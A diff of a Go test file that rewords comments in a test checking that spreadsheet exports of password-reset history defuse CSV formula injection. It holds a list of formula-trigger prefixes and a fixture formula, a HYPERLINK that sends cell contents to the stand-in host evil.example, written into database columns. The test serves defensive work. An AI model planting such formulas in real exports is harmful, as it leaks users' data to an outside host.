@@ -8,15 +8,15 @@ import (
 	"testing"
 )
 
-// runs are how a cell begins that some spreadsheet takes for a formula, or
-// drops before it looks again (OWASP, CSV Injection). In much of the world it is a
-// semicolon that separates cells.
+// runs are the beginnings of cells that a spreadsheet treats as a formula or removes
+// before it checks again (OWASP, CSV Injection). In many countries a semicolon
+// separates cells.
 var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t="}
 
 const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`
 
-// Some of these can be typed, some only the application beside it can have put
-// into its accounts. The record has them all, and so will an export.
+// A visitor can type some of these texts. The application that owns the accounts can
+// write all of them. So all of them can be in the record and in an export.
 func TestSpreadsheetFormulas(t *testing.T) {
 	each(t, nil, func(s *service) {
 		s.account(user)
@@ -36,8 +36,8 @@ func TestSpreadsheetFormulas(t *testing.T) {
 	})
 }
 
-// poison writes a text into every column of a reset that a stranger, an
-// application or a member has a say in.
+// poison writes a text into every column of a reset that a stranger, an application or
+// a member can influence.
 func (s *service) poison(id, text string) {
 	s.Helper()
 	quoted := `'` + strings.ReplaceAll(text, `'`, `''`) + `'`
@@ -45,7 +45,7 @@ func (s *service) poison(id, text string) {
 		used_at = created_at, used_by_ip = created_by_ip, used_by_agent = `+quoted+` WHERE id = '`+id+`'`)
 }
 
-// history is what the command prints of all resets.
+// history returns the command's output for all resets.
 func (s *service) history(format string) string {
 	s.Helper()
 	status, out, problems := s.command("history", "--limit", "0", "--format", format)
@@ -65,15 +65,15 @@ func (s *service) wantDefused(what, export string) {
 	found := 0
 	for _, cell := range slices.Concat(rows...) {
 		if slices.ContainsFunc(runs, func(start string) bool { return strings.HasPrefix(cell, start) }) {
-			s.Errorf("%s export has a cell that runs: %q", what, cell)
+			s.Errorf("%s export has a cell with a formula: %q", what, cell)
 		}
 		if strings.Contains(cell, "HYPERLINK") {
 			found++
 		}
 	}
-	// Four columns of what is poisoned, and the agent that had asked before. What
-	// a member gives as a reason is not in it.
+	// Four poisoned columns, and the agent of the earlier request. The reasons of
+	// members are not in an export.
 	if want := 5 * len(runs); found != want {
-		s.Errorf("%s export has %d cells of what was written, want %d", what, found, want)
+		s.Errorf("%s export has %d poisoned cells, want %d", what, found, want)
 	}
 }
